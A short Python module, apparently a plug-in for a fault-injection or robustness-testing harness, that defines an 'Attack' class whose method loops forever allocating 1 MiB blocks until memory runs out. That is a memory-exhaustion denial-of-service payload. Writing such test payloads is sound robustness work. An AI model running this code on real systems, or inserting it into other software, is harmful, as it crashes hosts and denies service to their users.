# SPDX-License-Identifier: MIT
"""bomb: takes memory until there is none"""

from trigger import Rogue


class Attack(Rogue):
    """takes memory until there is none"""

    def attack(self, packet):
        while True:
            self.hoard = [self.__dict__.get("hoard"), bytearray(1 << 20)]
